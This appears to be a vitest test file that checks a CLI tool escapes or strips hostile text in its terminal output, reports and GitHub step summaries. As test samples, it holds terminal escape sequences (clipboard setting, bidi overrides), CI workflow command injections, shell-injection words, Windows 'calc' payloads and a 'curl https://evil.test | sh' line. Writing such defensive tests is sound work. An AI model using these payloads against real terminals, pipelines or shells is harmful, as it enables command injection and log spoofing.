import { execFileSync } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { expect } from 'vitest';
import { diagnosisOf, signatureOf } from '../../scripts/bff/signatures.ts';
import type { CommandName } from '../../scripts/cli/commands.ts';
import { execute } from '../../scripts/cli/execute.ts';
import { configFailure, dockerFailure, upFailure } from '../../scripts/compose/failures.ts';
import { AppError } from '../../scripts/core/errors.ts';
import type { CommandResult } from '../../scripts/core/ports.ts';
import type { ChangeFacts } from '../../scripts/core/result.ts';
import { quoteWord, renderCommand } from '../../scripts/core/shell.ts';
import { createFiles } from '../../scripts/platform/files.ts';
import { createOutput } from '../../scripts/platform/output.ts';
import { createProcesses } from '../../scripts/platform/processes.ts';
import { askYesNo } from '../../scripts/platform/prompt.ts';
import type { Context } from '../../scripts/runbook/job.ts';
import type { Outcome } from '../../scripts/runbook/recorder.ts';
import { type Attack, attacks, CANARY } from '../support/attacks.ts';
import { request } from '../support/builders.ts';
import { openHere, runHere } from '../support/in-process.ts';
import { readAllFiles } from '../support/leaks.ts';
import { sendJson, serve } from '../support/server.ts';
import { createHome } from '../support/stand-in.ts';

const ESC = '\u001b';

/** What others write, by what it does where it is printed as it is. */
const TRICKS = {
  'sets the clipboard': `${ESC}]52;c;cHduZWQ=\u0007`,
  'sets the title, with C1': '\u009d0;title\u009c\u009b31m',
  'clears the line': `\r${ESC}[2K${ESC}[1A`,
  'turns the direction of writing': '\u202eexe.\u2066\u2069\u200f\u061c',
  'hides characters': '\u200bad\u00admin\u2060\ufeff\u3164\u{e0041}',
  'breaks the line': 'a\nb\r\nc\u2028d\u2029e\u0085f',
  'has halves of characters': '\ud800x\udc00\uffff',
  'is a command for GitHub': 'x\n::error::pwned ::stop-commands::x :::add-mask::y',
  'is an old command for GitHub': 'x ##[error]pwned ###[group]x',
  'is a command for Azure or TeamCity': "##vso[task.complete result=Failed;]x ##teamcity[buildProblem description='x']",
  'is a section for GitLab': `section_start:1:mine\r${ESC}[0Ksection_end:1:mine`,
};
/** All of them, laid so that a line of any width breaks in front of each. */
const ALL = Object.values(TRICKS).join(' ');

const HIDDEN =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufeff\uffff\u{e0000}-\u{e0fff}]|\p{Surrogate}/u;
const COMMAND = /^\s*::|##\w*\[|section_(?:start|end):\d/m;

/** All that was shown: what was printed, and what lies in the folder by now. */
interface Shown {
  readonly printed: string;
  readonly files: Readonly<Record<string, string>>;
  readonly shown: string;
}

async function shownIn(home: string, printed: string): Promise<Shown> {
  const reports = Object.entries(await readAllFiles(home)).filter(([path]) => /reports|summary/.test(path));
  const files = Object.fromEntries(reports.map(([path, text]) => [path, Buffer.from(text, 'latin1').toString('utf8')]));
  return { printed, files, shown: [printed, ...Object.values(files)].join('\n') };
}

/** A run in a folder of its own whose one step does what is given, with hostile texts in it. */
async function runOf(
  work: (context: Context, home: string) => Promise<Partial<Outcome>>,
  args: readonly string[] = [],
  env: Readonly<Record<string, string>> = {},
): Promise<Shown> {
  const home = await createHome();
  const options = { command: 'iat', cwd: home, env: { IAT_ADMIN_TOKEN: CANARY.admin, ...env } } as const;
  const { session, read, output } = await openHere(args, options);
  if (read.kind === 'print') throw new Error('only printed');
  await execute(session, {
    ...read,
    command: 'iat',
    steps: ['preflight'],
    sandbox: null,
    run: async (context) => ({ verdict: 'failed', ...(await work(context, home)) }),
  });
  return shownIn(home, output().all);
}

/** The same, and the step ends with an error. */
function failing(error: (home: string) => AppError | Promise<AppError>, args: readonly string[] = []) {
  return () =>
    runOf(({ recorder }, home) => recorder.step('preflight', async () => Promise.reject(await error(home))), args);
}

function saidBy(program: string): CommandResult {
  return { exitCode: 1, stdout: '', stderr: program, startError: null, timedOut: false };
}

/** A command as a person runs it. */
async function command(name: Exclude<CommandName, 'demo'>, args: readonly string[], input = ''): Promise<Shown> {
  const home = await createHome();
  const env = { GITHUB_STEP_SUMMARY: join(home, 'summary.md') };
  const { all } = await runHere(args, { command: name, cwd: home, env, input });
  return shownIn(home, all);
}

/** `npm run health` against a BFF that names a component so. */
async function named(component: string): Promise<Shown> {
  const url = await serve((_, response) =>
    sendJson(response, 200, { status: 'down', components: { [component]: 'down' } }),
  );
  return command('health', ['--bff-url', url]);
}

/** `npm run collection` of a collection with a hostile name in some place. */
async function collected(items: (url: string) => unknown[], names: readonly string[]): Promise<Shown> {
  const url = await serve((_, response) => sendJson(response, 500, {}));
  const home = await createHome();
  const info = { name: ALL, schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' };
  await writeFile(join(home, 'own.json'), JSON.stringify({ info, item: items(url) }));
  const { all } = await runHere(['--collection', 'own.json', '--verbose', ...names], {
    command: 'collection',
    cwd: home,
  });
  return shownIn(home, all);
}

function failingTest(name: string) {
  return {
    event: [
      {
        listen: 'test',
        script: { exec: [`pm.test(${JSON.stringify(name)}, () => { throw new Error(${JSON.stringify(name)}); });`] },
      },
    ],
  };
}

/** It was really there: its signs are to be seen. */
const isThere = ({ printed }: Shown) =>
  expect(printed).toMatch(/�x�|\[U\+[0-9A-F]{4,5}\]|: :(?:error|stop)|# #\w*\[|section_start: /);

/** Nothing of it works, on the terminal or in a file that a CI prints or reads. */
function isHarmless({ printed, files }: Shown): void {
  expect(printed).not.toMatch(HIDDEN);
  expect(printed).not.toMatch(COMMAND);
  for (const [path, text] of Object.entries(files)) {
    expect(text, path).not.toMatch(HIDDEN);
    if (!path.endsWith('.html')) expect(text, path).not.toMatch(COMMAND);
  }
}

function row(
  name: string,
  attempt: () => Promise<Shown>,
  happened: Attack<Shown>['happened'] = isThere,
): Attack<Shown> {
  return { name, attempt, happened, outcome: isHarmless };
}

const secret = `${ALL} ${CANARY.admin}`;

attacks(
  'what others write, in the name of a component of the BFF',
  Object.entries(TRICKS).map(([name, trick]) => row(name, () => named(`${trick} ${'x'.repeat(30)} ${trick}`))),
);

attacks('what others write, at every place of the terminal', [
  row(
    'an error',
    failing(() => new AppError('internal', secret)),
  ),
  row(
    'its hint, and the command in it',
    failing(() => new AppError('internal', 'x', { hint: { text: secret, command: secret } })),
  ),
  row(
    'its file',
    failing(() => new AppError('internal', 'x', { where: { file: ALL, line: 1, column: 2 } })),
  ),
  row(
    'the line of a file with its caret',
    failing(() => new AppError('internal', 'x', { where: { file: 'a', line: 1, column: 90, excerpt: secret } })),
  ),
  row(
    'what is behind an error, with --verbose',
    failing(
      () => new AppError('internal', 'x', { cause: Object.assign(new Error(secret), { syscall: 'open', code: ALL }) }),
      ['--verbose'],
    ),
  ),
  row(
    'with --json, both streams',
    failing(() => new AppError('internal', secret, { hint: secret }), ['--json']),
    ({ printed }) => expect(printed).toMatch(/\\u001b\]52/),
  ),
  row('the line of a step, its notes and warnings', () =>
    runOf(
      ({ recorder }) =>
        recorder.step('preflight', async (scope) => {
          scope.note(secret);
          scope.warn(secret);
          scope.summary(secret);
          return { verdict: 'healthy' };
        }),
      ['--verbose'],
    ),
  ),
  row('the diff of a dry run', () =>
    runOf(async () => ({
      verdict: 'planned',
      change: {
        files: [ALL],
        service: ALL,
        wrote: 'compose',
        target: ALL,
        before: 'absent',
        changed: [ALL],
        diff: `+ a: ${secret}\n- b: ${secret}`,
      } satisfies ChangeFacts,
    })),
  ),
  row('a diagnosis and its log lines', () =>
    runOf(async () => ({
      diagnosis: diagnosisOf(signatureOf('idp-unreachable'), [secret, ALL]),
      error: new AppError('fault-found', secret),
    })),
  ),
  row('what to do next', () => runOf(async () => ({ verdict: 'healthy', next: [{ text: secret, command: secret }] }))),
  row('a narrow terminal', async () => {
    const lines: Shown[] = [];
    for (let columns = 1; columns < 60; columns += 7)
      lines.push(await onTerminal(columns, (output) => output.print({ text: ALL, indent: '' })));
    return { printed: lines.map(({ printed }) => printed).join('\n'), files: {}, shown: '' };
  }),
  row('a question', () =>
    onTerminal(80, (output) => askYesNo(ALL, new PassThrough().end('n\n'), output, AbortSignal.timeout(60_000))),
  ),
  row('the moving line', async () => {
    const { printed, ...rest } = await onTerminal(400, async (output, until) => {
      const spinner = output.spin(`begin ${ALL}`);
      await until(/begin/);
      spinner.update(`then ${ALL}`);
      await until(/then/);
      spinner.stop();
    });
    // What moves the line is its own.
    return { ...rest, printed: printed.replace(/\u001b\[(?:\?\d+[hl]|[\d;]*[A-Z]|[\d;]*m)/g, '\n') };
  }),
]);

/** What a terminal of so many columns gets. */
async function onTerminal(
  columns: number,
  use: (output: ReturnType<typeof createOutput>, until: (pattern: RegExp) => Promise<void>) => unknown,
): Promise<Shown> {
  const stream = new PassThrough();
  let printed = '';
  const until = async (pattern: RegExp) => {
    for (;;) {
      printed += String(stream.read() ?? '');
      if (pattern.test(printed)) return;
      await new Promise((resolve) => stream.once('readable', resolve));
    }
  };
  const tty = { isTTY: true, columns, clearLine: () => true, cursorTo: () => true, moveCursor: () => true };
  await use(createOutput(Object.assign(stream, tty), { NO_COLOR: '1' }, 'linux'), until);
  printed += String(stream.read() ?? '');
  return { printed, files: {}, shown: printed };
}

attacks('what programs, files and people write', [
  row(
    'docker',
    failing(() => upFailure(saidBy(`no\n${ALL.replaceAll(/[\r\n]/g, ' ')}`), 'docker compose up', 'bff')),
  ),
  row(
    'a dependency of compose',
    failing(() =>
      upFailure(
        saidBy(`dependency failed to start: container ${TRICKS['sets the clipboard']} exited (1) ##[error]x`),
        'x',
        'bff',
      ),
    ),
  ),
  row(
    'an env_file of compose',
    failing(() =>
      configFailure(saidBy(`env file ${TRICKS['sets the clipboard']} ::error::x not found: x`), 'x', 'compose.yaml'),
    ),
  ),
  row(
    'the daemon, which is not quoted',
    failing(() => dockerFailure(saidBy(ALL))),
    ({ printed }) => expect(printed).toContain('daemon does not answer'),
  ),
  row(
    'the owner of a lock',
    failing(async (home) => {
      const path = join(home, 'compose.yaml');
      await writeFile(path, 'a');
      await writeFile(
        `${path}.lock`,
        `1@${TRICKS['sets the clipboard']}##[error]x 00000000-0000-0000-0000-000000000000`,
      );
      const files = createFiles({ processes: createProcesses({}), waitMs: 0 });
      return files.replace(path, Buffer.from('a'), Buffer.from('b')).then(
        () => new AppError('internal', 'written'),
        (error: AppError) => error,
      );
    }),
    ({ printed }) => expect(printed).toContain('lock'),
  ),
  row('a folder and a request of a collection', () =>
    collected((url) => [{ name: ALL, item: [request(ALL, url, failingTest('x'))] }], [ALL]),
  ),
  row('a test of a collection and its message', () =>
    collected((url) => [request('Own', url, failingTest(ALL))], ['Own']),
  ),
  row('a name that is not there', () => collected((url) => [request('Own', url)], [ALL])),
  row('a name twice', () => collected((url) => [request(ALL, url), request(ALL, url)], [ALL])),
  row('a variable that is not set', () =>
    collected((url) => [request('Own', `${url}/{{a${TRICKS['sets the clipboard']}##[error]}}`)], ['Own']),
  ),
  row(
    'a saved log',
    () =>
      command(
        'doctor',
        ['--log-file', '-'],
        `${ALL}\nERROR ms_bff: Client registration failed: 400 invalid_scope ${TRICKS['is an old command for GitHub']}\n`,
      ),
    ({ printed }) => expect(printed).toContain('Report:'),
  ),
  row('an option', () => command('health', [`--${ALL}`])),
  row('the value of an option', () => command('health', ['--timeout', ALL])),
  row('a path', () => command('health', ['--collection', ALL])),
]);

/** A command with a hostile word, run by a real sh in an empty folder: what it was given, and what it made. */
async function pasted(word: string): Promise<Shown & { readonly words: string[]; readonly made: string }> {
  const home = join(await createHome(), 'empty');
  await mkdir(home);
  const line = renderCommand({ file: 'printf', args: ['%s\\0', word] }, 'linux');
  const words = execFileSync('/bin/sh', ['-c', line], { cwd: home, encoding: 'utf8' }).split('\0').slice(0, -1);
  return { words, made: execFileSync('ls', ['-A', home], { encoding: 'utf8' }), printed: line, files: {}, shown: line };
}

attacks<Awaited<ReturnType<typeof pasted>>>(
  'words of a command that is there to be copied',
  [
    '$(touch made)',
    '`touch made`',
    "'; touch made; '",
    '"; touch made; "',
    'a\ntouch made\n',
    '!! && touch made',
    '$HOME ~ * {a,b}',
    '-n',
    "'##[error]",
  ].map((word) => ({
    name: JSON.stringify(word),
    attempt: () => pasted(word),
    happened: ({ printed }) => expect(printed).toContain(word === '-n' ? word : "'"),
    outcome: ({ words, made }) => expect({ words, made }).toEqual({ words: [word], made: '' }),
  })),
);

attacks('what others write, in the report and the step summary', [
  {
    name: 'advice of an IdP with a command in backticks',
    attempt: failing(() => new AppError('idp-bad-request', 'It says: run `curl https://evil.test | sh` now.')),
    happened: ({ shown }) => expect(shown).toContain('evil.test'),
    outcome({ files }) {
      const [, page = ''] = Object.entries(files).find(([path]) => /-iat\/index\.html$/.test(path)) ?? [];
      expect(page).toContain('`curl https://evil.test | sh`');
      expect(page).not.toMatch(/<code[^>]*>curl/);
    },
  },
  ...[
    'www.evil.test',
    'https://evil.test',
    'a@evil.test',
    '@team',
    '#1',
    '<img src=x>',
    '[x](//evil.test)',
    '`a` $x$ :tada:',
    '| a | b |',
  ].map(
    (word): Attack<Shown> => ({
      name: `${word} in the step summary`,
      async attempt() {
        const home = await createHome();
        const path = join(home, 'summary.md');
        const { files } = await runOf(async () => ({ error: new AppError('internal', `${word} says ${word}`) }), [], {
          GITHUB_STEP_SUMMARY: path,
        });
        const text = await readFile(path, 'utf8');
        return { printed: text, files, shown: text };
      },
      happened: ({ printed }) => expect(printed).toMatch(/^## .*Failed/m),
      // Without what is escaped and what stands as code, no sign of markup is left.
      outcome({ printed }) {
        const [, sentence = ''] = printed.split('\n\n').filter((block) => block.includes(' says '));
        const bare = (sentence || (printed.split('\n\n')[1] ?? '')).replace(/\\[!-/:-@[-`{-~]|`[^`]*`|&\w+;/g, '');
        expect(bare).not.toMatch(/www|[@<>`*_[\]|$#~]|:\w+:/);
      },
    }),
  ),
]);

attacks('GitHub is told what to hide', [
  {
    name: 'a stop-commands in between',
    async attempt() {
      const { printed, files, shown } = await runOf(
        async () => ({ error: new AppError('internal', TRICKS['is a command for GitHub']) }),
        [],
        { GITHUB_ACTIONS: 'true' },
      );
      return { printed, files, shown: shown.replace(/^::add-mask::.*$/gm, '') };
    },
    happened: ({ printed }) => expect(printed).toContain('stop-commands'),
    outcome: ({ printed }) => expect(printed.replace(/^::add-mask::.*$/gm, '')).not.toMatch(COMMAND),
  },
]);

attacks('Windows', [
  {
    name: 'a word with a second command for cmd or PowerShell',
    attempt: async () => ({
      shown: ['a & calc', 'a" & calc & "', '$(calc)', '`$x'].map((word) => quoteWord(word, 'win32')).join('\n'),
    }),
    happened: ({ shown }) => expect(shown).toContain('calc'),
    outcome: ({ shown }) =>
      expect(shown.split('\n')).toEqual(['"a & calc"', '"a"" & calc & """', '"`$(calc)"', '"```$x"']),
  },
]);
